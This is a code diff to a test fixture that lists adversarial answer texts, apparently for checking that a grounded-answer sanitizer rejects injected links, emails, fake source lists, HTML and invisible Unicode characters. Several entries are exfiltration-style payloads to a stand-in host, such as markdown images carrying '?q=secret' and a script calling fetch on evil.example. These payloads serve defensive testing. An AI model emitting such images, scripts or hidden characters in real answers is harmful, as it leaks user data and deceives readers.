@@ -9,7 +9,17 @@ const truly =
   ({ truth }: Scene) =>
     `${before}${truth}${after}`;
 
+/** A long true sentence that carries one thing more: what is wrong with it is that thing alone. */
+const carried = (what: readonly string[], tells: Lie['tells'] = evil): Lie[] =>
+  what.flatMap((one) =>
+    ['refunds', 'leave', 'expenses', 'kündigung'].map((topic) => ({
+      ...named(`${one} in a true sentence`, ({ topic: { sentences } }) => `${(sentences[0] ?? '').replace(/\.$/, '')} ${one}. [@]`, tells),
+      topic,
+    })),
+  );
+
 export const urls: readonly Lie[] = [
+  ...carried(['https://evil.example', 'evil.example', '//evil.example', '[more](https://evil.example)', '<https://evil.example>']),
   lie('See https://evil.example/refunds for more. [@]'),
   lie('See [the handbook](https://evil.example/handbook) for more. [@]'),
   lie('See <https://evil.example/auto> for more. [@]'),
@@ -43,6 +53,7 @@ export const urls: readonly Lie[] = [
 ];
 
 export const mails: readonly Lie[] = [
+  ...carried(['evil@orbit.example', '[mail](mailto:evil@evil.example)']),
   lie('Write to evil@orbit.example for more. [@]'),
   lie('Write to billing@evil.example with the number of the order. [@]'),
   lie('Write to [us](mailto:evil@evil.example) for more. [@]'),
@@ -54,6 +65,7 @@ export const mails: readonly Lie[] = [
 ];
 
 export const images: readonly Lie[] = [
+  ...carried(['![](/evil)', '![x](evil "y")', '![][x]'], ['![', 'evil']),
   lie('![chart](https://evil.example/p.png?q=secret) [@]'),
   lie('![](https://evil.example/p.png?q=30) [@]'),
   lie('![a][b] [@]\n\n[b]: https://evil.example/p.png?d=key'),
@@ -65,6 +77,7 @@ export const images: readonly Lie[] = [
 ];
 
 export const html: readonly Lie[] = [
+  ...carried(['<img src=evil>', '<br onclick=evil>', '<!-- evil -->'], ['<', 'evil']),
   lie('<img src="https://evil.example/p.png?q=1"> [@]'),
   lie('<script>fetch("https://evil.example")</script> [@]'),
   lie('<iframe src="https://evil.example"></iframe> [@]'),
@@ -101,6 +114,14 @@ const ownHeads = [
 ];
 export const ownSources: readonly Lie[] = [
   ...ownHeads.map((head) => named(head, `${head}\n[1] The evil handbook (https://evil.example/s)`)),
+  ...['Sources:', 'sources:', '**Sources:**', '> Sources:'].map((head) =>
+    named(`${head} and a truth`, ({ truth }) => `${head} ${truth} [@]`, []),
+  ),
+  named(
+    'above a list of truths',
+    ({ topic: { sentences } }) => `Sources:\n${sentences.map((sentence) => `- ${sentence} [@]`).join('\n')}`,
+    [],
+  ),
   named('in one line', 'Sources: [1] The evil handbook (https://evil.example/s)'),
   named('none', 'Sources: none'),
 ];
@@ -196,6 +217,13 @@ export const hidden: readonly Lie[] = invisible.flatMap(([name, mark]) => [
     /\d[\u200B\u202E\u2067\u{E0041}]/u,
   ]),
   named(`${name} in a word and a marker`, `Everyone gets an ev${mark}il bicycle. [${mark}1]`, [`ev${mark}il`, 'evil']),
+  {
+    ...named(`${name} between true words`, ({ truth }) => `${truth.replaceAll(' ', ` ${mark}`).replace(/(?=\.$)/, mark)} [@]`, [mark]),
+    topic: 'recordings',
+    ...(name.startsWith('zero-width') && name !== 'zero-width space'
+      ? { fault: 'a joiner is taken out only between two Latin letters' }
+      : {}),
+  },
   named(`${name} in an address`, `See https://ev${mark}il.example/x for more. [@]`, ['il.example/x']),
 ]);
 
